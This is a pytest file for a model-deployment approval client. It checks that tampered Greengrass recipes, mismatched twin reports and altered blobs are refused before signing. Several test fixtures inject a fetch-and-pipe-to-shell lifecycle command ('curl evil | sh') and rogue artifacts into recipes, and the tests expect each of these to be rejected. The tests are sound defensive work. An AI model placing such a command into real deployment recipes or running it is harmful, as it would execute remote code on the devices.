"""What an approver's own machine finds out about what it is asked to sign, from a control plane that may lie."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import msgspec
import pytest

from lineside.client import Client
from lineside.client.judging import approved_files, component_of, judge
from lineside.contract.approval import TwinOutcome, TwinReport, shortfalls
from lineside.contract.component import AddComponent, Component
from lineside.contract.errors import LinesideError
from lineside.contract.ids import canonical, digest_of, greengrass_digest
from lineside.contract.model import ModelVersion
from lineside.contract.trust import ApprovalStatement
from lineside.contract.twin import TwinCheck, TwinTestRun
from lineside.server.components.service import Components
from lineside.server.components.statement import statement_of
from lineside.server.components.testing import model_version
from lineside.server.testing import Running, running
from tests.twin_reports import CHECKS, OUTCOME, twin_report

PATH = "models/tags.model-1.0.0.json"


@dataclass
class Case:
    """A packed model, the twins' report about it, and what would be signed."""

    lineside: Running
    client: Client
    model: ModelVersion
    files: Component
    code: Component
    statement: ApprovalStatement

    @property
    def recipe(self) -> dict[str, Any]:
        return json.loads(self.client.get_blob(self.files.recipe_digest))

    def report(self, **fields: Any) -> str:
        """A twin report as a blob; its digest."""
        values: dict[str, Any] = {
            "model": "tags:1",
            "digest": self.model.digest,
            "rollout": "rollout-1",
            "recipes": {"tags.model": self.files.recipe_digest, "tags.inference": self.code.recipe_digest},
        }
        return self.client.put_blob(canonical(twin_report(**values | fields)))

    def with_recipe(self, change: Callable[[dict[str, Any]], object]) -> tuple[ApprovalStatement, str]:
        """A statement that names a changed recipe, whose digest is to be signed; the twins saw it, they say."""
        recipe = self.recipe
        change(recipe)
        digest = self.client.put_blob(canonical(recipe))
        report = self.report(recipes={"tags.model": digest})
        return msgspec.structs.replace(self.statement, recipe=digest, twin_report=report), digest


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Case]:
    with running(tmp_path_factory.mktemp("root")) as lineside:
        client, components = Client(lineside.people_url), Components(lineside.core)
        model = model_version(lineside.core.objects)
        with lineside.core.database.write() as session:
            files, code = components.package(session, model)
        made = Case(lineside, client, model, files, code, statement_of(model, files.recipe_digest, "ola"))
        tested = {"twin_rollout": "rollout-1", "twin_report": made.report()}
        made.statement = msgspec.structs.replace(made.statement, **tested)
        yield made


def wrong(
    case: Case, said: ApprovalStatement, digest: str | None = None, path: str = PATH, label: str = "tags:1"
) -> str:
    """Why it is not signed."""
    with pytest.raises(LinesideError, match=r"^approval\.not_what_it_says:") as refused:
        judge(case.client, label, path, digest or case.files.recipe_digest, said.to_custom())
    return refused.value.message


def test_what_holds_together_is_shown_with_the_code_nobody_signed_yet(case: Case) -> None:
    judged = judge(case.client, "tags:1", PATH, case.files.recipe_digest, case.statement.to_custom())
    assert judged.statement == case.statement
    assert judged.report is not None
    assert judged.report.twins[0].device == "twin-1"
    assert judged.code == case.code


def test_another_model_or_path_is_not_what_was_asked_for(case: Case) -> None:
    assert "it is about tags:1" in wrong(case, case.statement, label="tags:2")
    assert "models/other.json" in wrong(case, case.statement, path="models/other.json")
    assert "another recipe" in wrong(case, case.statement, digest=digest_of(b"x"))


def test_a_statement_that_cannot_be_read_is_refused(case: Case) -> None:
    with pytest.raises(LinesideError, match="the statement cannot be read"):
        judge(case.client, "tags:1", PATH, case.files.recipe_digest, {"schema": 3})


def _run(recipe: dict[str, Any]) -> None:
    recipe["Manifests"][0]["Lifecycle"] = {"Run": "curl evil | sh"}


def _lower(recipe: dict[str, Any]) -> None:
    recipe["Manifests"][0]["lifecycle"] = {"Run": "curl evil | sh"}


def _above(recipe: dict[str, Any]) -> None:
    recipe["Lifecycle"] = {"Run": "curl evil | sh"}


def _second(recipe: dict[str, Any]) -> None:
    recipe["Manifests"].append(recipe["Manifests"][0])


def _needs(recipe: dict[str, Any]) -> None:
    recipe["ComponentDependencies"] = {"evil": {"VersionRequirement": "*"}}


def _unpacked(recipe: dict[str, Any]) -> None:
    recipe["Manifests"][0]["Artifacts"][0]["Unarchive"] = "ZIP"


def _further(recipe: dict[str, Any]) -> None:
    one = dict(recipe["Manifests"][0]["Artifacts"][0])
    recipe["Manifests"][0]["Artifacts"].append(one | {"URI": one["URI"].replace("model.onnx", "evil.py")})


def _network(recipe: dict[str, Any]) -> None:
    artifacts = recipe["Manifests"][0]["Artifacts"]
    artifacts[0]["Digest"] = artifacts[1]["Digest"]


def _renamed(recipe: dict[str, Any]) -> None:
    recipe["ComponentName"] = "gauges.model"


@pytest.mark.parametrize("change", [_run, _lower, _above, _second, _needs, _unpacked, _further, _network, _renamed])
def test_a_recipe_that_is_more_or_else_than_the_model_s_files_is_not_signed(case: Case, change: Any) -> None:
    said, digest = case.with_recipe(change)
    assert "recipe" in wrong(case, said, digest)


def _twin(**fields: Any) -> TwinOutcome:
    return msgspec.structs.replace(OUTCOME, **fields)


_TOO_MUCH = TwinCheck(name="peak memory of tags.model", value=9000.0, limit=4096.0, unit="MiB", passed=True)
_BAD_TEST = TwinTestRun(component="tags.inference", name="fits", passed=True, code=1, seconds=1.0, output="")
"""Both say that they passed; their numbers say otherwise."""


@pytest.mark.parametrize(
    ("fields", "why"),
    [
        ({"state": "failed"}, "the twin test is failed"),
        ({"digest": digest_of(b"x")}, "the twins tested something else"),
        ({"model": "tags:2"}, "the twins tested something else"),
        ({"rollout": "rollout-9"}, "the twins tested something else"),
        ({"recipes": {}}, "the twins tested something else"),
        ({"stages": ()}, "the stage preparing is missing"),
        ({"schema": "lineside.twin-report/9"}, "is not known here"),
        ({"twins": ()}, "no twin took part"),
        ({"twins": (_twin(progress="failed"),)}, "twin-1: failed"),
        ({"twins": (_twin(checks=CHECKS[1:]),)}, "twin-1: golden inputs was not measured"),
        ({"twins": (_twin(checks=(*CHECKS, _TOO_MUCH)),)}, "peak memory of tags.model 9000 MiB, the limit is 4096 MiB"),
        ({"twins": (_twin(tests=(_BAD_TEST,)),)}, "the test fits of tags.inference failed (exit status 1)"),
    ],
)
def test_a_twin_report_of_something_else_is_not_signed(case: Case, fields: dict[str, Any], why: str) -> None:
    said = msgspec.structs.replace(case.statement, twin_report=case.report(**fields))
    assert why in wrong(case, said)


def test_bytes_that_are_not_what_the_digest_says_are_not_signed(case: Case, tmp_path: Path) -> None:
    """The control plane answers other bytes for a digest."""
    said = msgspec.structs.replace(case.statement, twin_report=case.report(finished_at="2026-01-01T00:00:00Z"))
    value = str(said.twin_report).removeprefix("sha256:")
    (case.lineside.core.root / "objects" / "sha256" / value[:2] / value).write_bytes(b"{}")
    assert "the bytes of" in wrong(case, said)


def test_a_component_s_recipe_must_be_its_own(case: Case) -> None:
    recipe = {"RecipeFormatVersion": "2020-01-25", "ComponentName": "com.example.A", "ComponentVersion": "1.0.0"}
    recipe["Manifests"] = [{"Lifecycle": {"Run": "true"}}]  # type: ignore[assignment]
    made = case.client.add_component(AddComponent(recipe=json.dumps(recipe)))
    path = "apps/com.example.A-1.0.0.json"
    found = component_of(case.client, "com.example.A", "1.0.0", path, made.recipe_digest)
    assert found.component.name == "com.example.A"
    other = case.client.put_blob(canonical(recipe | {"ComponentName": "com.example.B"}))
    more = case.client.put_blob(canonical(recipe | {"Manifests": [{"Lifecycle": {"Run": "evil"}}]}))
    for at, digest in ((path, other), (path, more), ("apps/com.example.B-1.0.0.json", made.recipe_digest)):
        with pytest.raises(LinesideError, match=r"^approval\.not_what_it_says:"):
            component_of(case.client, "com.example.A", "1.0.0", at, digest)


def _previous(digest: str) -> Callable[[dict[str, Any]], None]:
    def change(recipe: dict[str, Any]) -> None:
        artifacts = recipe["Manifests"][0]["Artifacts"]
        for name in ("previous.onnx", "previous.json"):
            other = {"URI": f"lineside:sha256/{digest[7:]}/{name}", "Digest": greengrass_digest(digest)}
            artifacts.append(dict(artifacts[0]) | other)

    return change


def test_an_earlier_model_comes_along_only_when_it_is_approved(case: Case) -> None:
    earlier = digest_of(b"the network of tags:0")
    statement, digest = case.with_recipe(_previous(earlier))
    assert "an earlier model to compare with, which is not approved" in wrong(case, statement, digest)
    judged = judge(case.client, "tags:1", PATH, digest, statement.to_custom(), {earlier})
    assert judged.statement == statement


def test_approved_files_are_those_of_the_model_in_trusted_metadata() -> None:
    targets = {
        "models/tags.model-1.0.0.json": {"custom": {"model": "tags", "digest": "sha256:1"}},
        "models/bolts.model-1.0.0.json": {"custom": {"model": "bolts", "digest": "sha256:2"}},
        "models/old.json": {},
    }
    assert approved_files({"approvers": {"targets": targets}}, "tags") == {"sha256:1"}


def test_a_report_of_an_earlier_release_is_still_read(case: Case) -> None:
    early = TwinReport(
        schema="lineside.twin-report/1",
        model="tags:1",
        digest=case.model.digest,
        rollout="rollout-1",
        state="succeeded",
        finished_at=None,
        recipes={"tags.model": case.files.recipe_digest},
        twins=(TwinOutcome(device="twin-1", progress="healthy"),),
    )
    assert shortfalls(early) == ()
